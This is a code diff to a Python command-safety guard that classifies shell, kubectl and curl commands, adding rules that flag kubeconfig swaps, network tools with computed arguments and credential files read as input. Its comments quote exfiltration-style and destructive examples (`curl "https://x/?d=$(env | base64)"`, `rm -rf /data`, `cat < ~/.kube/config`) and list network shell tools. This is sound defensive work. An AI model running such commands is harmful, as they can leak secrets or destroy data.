@@ -21,6 +21,13 @@ Decisions that are judgement calls, with why:
   destructive when the command it runs is (`-- rm -rf /data`, `-- psql -c 'DROP TABLE x'`).
 - `kubectl config set-*/use-context/delete-*` are mutating: they change the local kubeconfig, so the
   next command may talk to another cluster.
+- `kubectl --server/-s`, `--kubeconfig` and a `KUBECONFIG=` assignment are unknown even on `get`: the first
+  hands this context's token or client certificate to any address, the others load a kubeconfig whose exec
+  credential plugin is a command (a kubeconfig planted in a GitOps repository is code).
+- A network program (curl, wget, dig, nc …) whose arguments are computed at run time (`curl
+  "https://x/?d=$(env | base64)"`) is unknown: the expansion can carry local data off the machine. So is
+  curl reading a local file into its headers or query (`-H @file`, `--url-query x@file`).
+- Credentials read as standard input (`cat < ~/.kube/config`) print Secrets like `cat ~/.kube/config`.
 - `mise run admin` is unknown: the platform documents it as opening port-forwards to the admin UIs, but
   the task's script lives in the platform repository and is not inspected here; tasks are classified
   from a small table (tool_rules.MISE_TASKS), anything else is unknown.
@@ -33,7 +40,8 @@ import shlex
 from dataclasses import replace
 
 from . import db_rules, kubectl_rules, tool_rules, unix_rules
-from .rulebase import NETWORK_FETCHERS, NO_STDIN, Ctx, Rule, Stdin, parse_args, prog, skip_options
+from .rulebase import (NETWORK_FETCHERS, NO_STDIN, Ctx, Rule, Stdin, parse_args, prog, secret_path, secret_var,
+                       skip_options)
 from .shell import Group, ParseError, Pipeline, Redirect, Script, Simple, Word, parse
 from .verdict import DESTRUCTIVE, MUTATING, READ_ONLY, UNKNOWN, Part, Verdict, verdict_of
 
@@ -188,6 +196,7 @@ def _pipeline(pl: Pipeline, ctx: Ctx) -> list[Part]:
         if isinstance(cmd, Group):
             stdin = _own_stdin(cmd.redirects) or upstream
             parts.extend(_redirect_parts(cmd.redirects, ctx, empties=False))
+            parts.extend(_secret_input(cmd.redirects))
             parts.extend(_script(cmd.body, replace(ctx, depth=ctx.depth + 1, stdin=stdin)))
             fetches = any(_is_fetch(s) for s in cmd.body.simple_commands())
             upstream = Stdin(network=True) if fetches or stdin.network else Stdin(opaque=True)
@@ -236,6 +245,20 @@ def _sub_parts(cmd: Simple, ctx: Ctx) -> list[Part]:
     return parts
 
 
+def _secret_input(redirects: list[Redirect]) -> list[Part]:
+    """`cat < ~/.kube/config`, `… done < /var/run/secrets/…/token`: a credential file read as standard input
+    reaches the output as surely as `cat FILE` does."""
+    for r in redirects:
+        tgt = r.target
+        if r.op not in ("<", "<>") or tgt is None:
+            continue
+        named = next((v for v in tgt.vars if v == "KUBECONFIG" or secret_var(v)), None)
+        if secret_path(tgt.text) or named:
+            what = f"the file ${named} names" if named and not secret_path(tgt.text) else tgt.text
+            return [Part(READ_ONLY, f"reads {what}, a file that usually holds credentials, as its input", exposes=True)]
+    return []
+
+
 def _redirect_parts(redirects: list[Redirect], ctx: Ctx, empties: bool) -> list[Part]:
     parts: list[Part] = []
     for r in redirects:
@@ -278,7 +301,9 @@ def _simple(cmd: Simple, ctx: Ctx, upstream: Stdin) -> tuple[list[Part], Stdin]:
     empties = not closing_only and (not effective or (len(effective) == 1 and not effective[0].quoted
                                                       and effective[0].text in (":", "true")))
     parts.extend(_redirect_parts(cmd.redirects, ctx, empties=empties))
+    parts.extend(_secret_input(cmd.redirects))
     if not words:
+        parts.extend(_kubeconfig_assigns(cmd.assigns, []))
         if cmd.assigns and not parts:
             parts.append(Part(READ_ONLY, "sets shell variables"))
         elif not parts:
@@ -294,14 +319,37 @@ def _simple(cmd: Simple, ctx: Ctx, upstream: Stdin) -> tuple[list[Part], Stdin]:
         return parts, Stdin(opaque=True)
     rule = RULES.get(name)
     inner = replace(ctx, stdin=stdin)
+    parts.extend(_kubeconfig_assigns(cmd.assigns, words))
     if rule is None:
         parts.append(Part(UNKNOWN, f"`{name}` is not a program the guard knows"))
     else:
         parts.extend(rule(words, inner))
+    dynamic = next((w.raw for w in words[1:] if w.dynamic), None)
+    if name in _EGRESS and dynamic is not None:
+        parts.append(Part(UNKNOWN, f"{name} sends text computed at run time ({dynamic}) over the network: it "
+                                   "could carry local data (environment, files) anywhere"))
     inner_words = _unwrap(words)
     if inner_words and not inner_words[0].dynamic:
         return parts, _output_of(prog(inner_words[0]), inner_words, stdin)
     return parts, Stdin(opaque=True)
+
+
+# Programs that reach another host: an argument built at run time (`curl http://x/$(env | base64)`,
+# `dig $(cat f).example.com`) can carry local data out, so it is not a plain read.
+_EGRESS = NETWORK_FETCHERS | {"dig", "nslookup", "host", "ping", "ping6", "nc", "ncat", "netcat", "telnet"}
+_ASSIGNERS = frozenset({"env", "export", "declare", "typeset", "readonly", "local", "sudo", "doas"})
+_KUBE_VARS = re.compile(r"(KUBECONFIG|KUBERNETES_SERVICE_HOST|KUBERNETES_SERVICE_PORT)(\+)?=")
+
+
+def _kubeconfig_assigns(assigns: list[Word], words: list[Word]) -> list[Part]:
+    """`KUBECONFIG=… kubectl …`, `export KUBECONFIG=…`, `env KUBECONFIG=…`: the kubectl that follows reads
+    another kubeconfig, whose exec credential plugin is a command (a kubeconfig planted in a repository is code)
+    and whose server may be anywhere. Unknown: a person decides."""
+    found = [w for w in assigns if _KUBE_VARS.match(w.text)]
+    if words and not words[0].dynamic and prog(words[0]) in _ASSIGNERS:
+        found += [w for w in words[1:] if _KUBE_VARS.match(w.text)]
+    return [Part(UNKNOWN, f"{w.text.split('=', 1)[0]} is set to {w.raw.split('=', 1)[1] or 'nothing'}: kubectl would "
+                          "use another kubeconfig or API server") for w in found[:1]]
 
 
 _UNWRAP_VALUE = {
